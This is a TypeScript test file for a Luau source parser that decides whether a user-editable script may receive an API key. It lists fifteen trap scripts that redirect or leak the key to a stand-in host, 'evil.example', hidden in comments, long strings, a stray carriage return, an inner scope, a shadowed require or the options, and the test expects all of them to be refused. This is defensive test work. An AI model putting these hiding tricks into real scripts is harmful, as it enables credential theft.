import { randomBytes } from "node:crypto";

import { expect, test } from "vitest";

import { formatKey } from "../../shared/key-format.ts";
import { startPureModules } from "./pure-module.ts";

const MODULE = "place/source";
const OWN = "https://keys.example.com";
const EVIL = "https://evil.example";
const ADDRESS = { text: OWN, host: "keys.example.com", secure: true, loopback: false, port: 443 };
const KEY = formatKey(randomBytes(26).toString("hex")) ?? "";

const KEY_LINE = `local KEY = "${KEY}"`;
const ADDRESS_LINE = `local ADDRESS = "${OWN}"`;
const START = "require(script.Client).start(KEY, ADDRESS)";
const source = (...lines: string[]) => lines.join("\n");

/** Each of these sends the key elsewhere, or might. */
const TRAPS: [string, string][] = [
	[
		"literals in a block comment before the real ones",
		source(`--[[\n${ADDRESS_LINE}\n]] local ADDRESS = "${EVIL}"`, KEY_LINE, START),
	],
	[
		"literals in a long string",
		source(`local text = [==[\n${KEY_LINE}\n]==]`, `local KEY = text:match("auxvyn_%x+")`, ADDRESS_LINE, START),
	],
	["a later assignment of the address", source(KEY_LINE, ADDRESS_LINE, `ADDRESS = "${EVIL}"`, START)],
	["an assignment in another scope", source(KEY_LINE, ADDRESS_LINE, `do ADDRESS = "${EVIL}" end`, START)],
	["a use of the key before start", source(KEY_LINE, ADDRESS_LINE, "_G.key = KEY", START)],
	["a use of the key after start", source(KEY_LINE, ADDRESS_LINE, START, "print(KEY)")],
	["code before the key", source("local require = function() return _G end", KEY_LINE, ADDRESS_LINE, START)],
	["another module", source(KEY_LINE, ADDRESS_LINE, "require(script.Parent.Other).start(KEY, ADDRESS)")],
	["a call in the options", source(KEY_LINE, ADDRESS_LINE, START.replace("ADDRESS)", "ADDRESS, { apis = f(KEY) })"))],
	[
		"a call without parentheses in the options",
		source(KEY_LINE, ADDRESS_LINE, START.replace("ADDRESS)", 'ADDRESS, { apis = f "x" })')),
	],
	["the key in the options", source(KEY_LINE, ADDRESS_LINE, START.replace("ADDRESS)", "ADDRESS, { KEY })"))],
	[
		"an interpolated string in the options",
		source(KEY_LINE, ADDRESS_LINE, START.replace("ADDRESS)", "ADDRESS, { `{f()}` })")),
	],
	["code after a lone carriage return in a comment", source(KEY_LINE, ADDRESS_LINE, `-- \rADDRESS = "${EVIL}"`, START)],
	[
		"a string continued over an escaped line end",
		source(KEY_LINE, ADDRESS_LINE, `local x = "\\`, `" ADDRESS = "${EVIL}"`, START),
	],
	["an unterminated comment", source(KEY_LINE, ADDRESS_LINE, START, "--[[")],
];

test("a source that might send the key elsewhere gets no key, however well it hides that", async () => {
	const luau = await startPureModules();
	for (const [name, trap] of TRAPS) {
		expect(["edited", "no-key", "address"], name).toContain(await luau(MODULE, "readSource", trap));
		expect(await luau(MODULE, "replaceKeyLiteral", trap, KEY, KEY), name).toBeUndefined();
	}
});

test("comments, blank lines, line endings and option values may be edited", async () => {
	const luau = await startPureModules();
	const rendered = String(await luau(MODULE, "renderSource", KEY, ADDRESS));
	const options = (table: string) => rendered.replace("apis = {},", table);
	const edits = [
		source(KEY_LINE, ADDRESS_LINE, START),
		source(KEY_LINE, ADDRESS_LINE, START.replace("ADDRESS)", "ADDRESS, {})")),
		`--!strict\n${rendered}\n\n--[==[ KEY = ADDRESS ]] ]==] -- print(KEY)\n`,
		rendered.replaceAll("\n", "\r\n"),
		rendered.replace("local options", '--[[ local ADDRESS = "https://old.example"\n]] local options'),
		options(`apis = { "https://a.example", 'https://b.example', [[https://c.example]], \`https://d.example\` },`),
		options('["apis"] = { "say \\"hi\\"", "a\\z\n  b" }; retries = 3, quiet = false, -- KEY'),
	];
	for (const edit of edits) {
		expect(await luau(MODULE, "readSource", edit), edit).toMatchObject({ key: KEY, address: ADDRESS });
	}
	expect(await luau(MODULE, "readSource", edits[5])).toMatchObject({
		apis: ["https://a.example", "https://b.example", "https://c.example", "https://d.example"],
	});
});
